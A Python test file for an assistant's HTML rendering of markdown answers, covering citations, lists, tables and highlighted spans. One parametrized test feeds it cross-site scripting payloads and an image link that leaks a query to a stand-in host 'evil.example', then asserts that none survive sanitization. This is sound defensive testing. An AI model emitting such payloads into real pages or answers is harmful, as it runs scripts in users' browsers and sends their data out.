from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from assistant.web.markup import ALLOWED, Mark, Piece, answer_html, marked

MARK = Mark(Markup("<span>"), Markup("<span class=again>"), Markup("</span>"), Markup("<i>after</i>"))
EMITTED = {"span", "i", "b", *ALLOWED}


def draw(*texts: str, citations: frozenset[int] = frozenset({1, 2})) -> str:
    pieces = [Piece(text, " " if i else "", MARK, citations) for i, text in enumerate(texts)]
    return str(answer_html(pieces, lambda n: Markup(f"<b>{n}</b>"))).strip().replace("\u2060", "")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Plain.", "<p><span>Plain.</span><i>after</i></p>"),
        ("Two **strong** words.", "<p><span>Two </span><strong><span class=again>strong</span></strong>"
         "<span class=again> words.</span><i>after</i></p>"),
        ("Cited [1].", '<p><span>Cited</span><span class="kept"><b>1</b><span class=again>.</span></span><i>after</i></p>'),
        ("Not offered [7].", "<p><span>Not offered [7].</span><i>after</i></p>"),
        ("a < b & c > d", "<p><span>a &lt; b &amp; c &gt; d</span><i>after</i></p>"),
        ("", "<i>after</i>"),
    ],
)  # fmt: skip
def test_sentences_are_wrapped_run_by_run(text: str, html: str) -> None:
    assert draw(text) == html or (text == "" and "<span>" not in draw(text))


def test_blocks_of_markdown() -> None:
    assert draw("- One [1].\n- Two.").count("<li>") == 2
    assert draw("1. One.\n2. Two.").startswith("<ol>")
    table = draw("| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<table>" in table
    assert "<td><span class=again>1</span></td>" in table
    assert draw("```python\nx = [1]\n```").startswith("<pre><code>")
    assert "<h2>" in draw("## Title")


@pytest.mark.parametrize(
    "heads",
    [
        "|  | A | B |\n|---|---|---|",
        "| | A | B |\n| :-- | --- | --: |\n",
        "|  | A | B |\n|---|---|---|  \n\n",
    ],
)
def test_the_heads_of_a_table_are_a_sentence_of_their_own(heads: str) -> None:
    rows = [Piece("One [1].", "\n| x | ", MARK, frozenset({1})), Piece("Two. |", " | ", MARK)]
    html = str(answer_html([Piece(heads.rstrip(), "", MARK), *rows], lambda n: Markup(f"<b>{n}</b>")))
    assert "<th><span>A</span></th>" in html
    assert html.count("<td>") == 3
    assert "|" not in html


def test_sentences_in_a_list_keep_their_own_marks() -> None:
    texts = [Piece("One.", "", MARK), Piece("Two.", "\n- ", MARK), Piece("Three.", "\n- ", MARK)]
    html = str(answer_html(texts, lambda _: Markup()))
    assert html.count("<li>") == 2
    assert html.count("<i>after</i>") == 3


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/leak?q=1)",
        '<img src="http://evil.example/x.png">',
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](http://evil.example)",
        "<http://evil.example>",
        "http://evil.example/plain",
        "[a]: http://evil.example\n\n[a]",
        "<style>body{background:url(http://evil.example)}</style>",
        '<a href="data:text/html,x" style="background:url(//evil.example)">x</a>',
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "`<b onclick=x>`",
        "\U000f0000\U00100000\ue001<b>x</b>",
    ],
)
def test_nothing_of_an_answer_acts(text: str) -> None:
    html = draw(text)
    assert set(re.findall(r"<\s*([a-zA-Z0-9]+)", html)) <= EMITTED
    assert not re.search(r"<[^>]*(src|href|style|on\w+)\s*=", html)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text("ab [1]2*_`<>|-#\n.&\"'\ue001\U000f0000é", max_size=30), min_size=1, max_size=4))
def test_any_text_gives_only_allowed_tags(texts: list[str]) -> None:
    html = draw(*texts)
    assert set(re.findall(r"<\s*([a-zA-Z0-9]+)", html)) <= EMITTED
    assert not re.search("[\ue001\U000f0000-\U0010fffd]", html)


@pytest.mark.parametrize(
    ("layers", "html"),
    [
        ([], "a&lt;b cd"),
        ([(2, 3, "cited")], 'a&lt;<mark class="cited">b</mark> cd'),
        ([(0, 99, "cited")], '<mark class="cited">a&lt;b cd</mark>'),
        ([(0, 3, "cited"), (2, 5, "planted")],
         '<mark class="cited">a&lt;</mark><mark class="cited planted">b</mark>'
         '<mark class="planted"> c</mark>d'),
        ([(50, 60, "cited")], "a&lt;b cd"),
    ],
)  # fmt: skip
def test_marked(layers: list[tuple[int, int, str]], html: str) -> None:
    assert marked("a<b cd", 0, 6, layers) == html
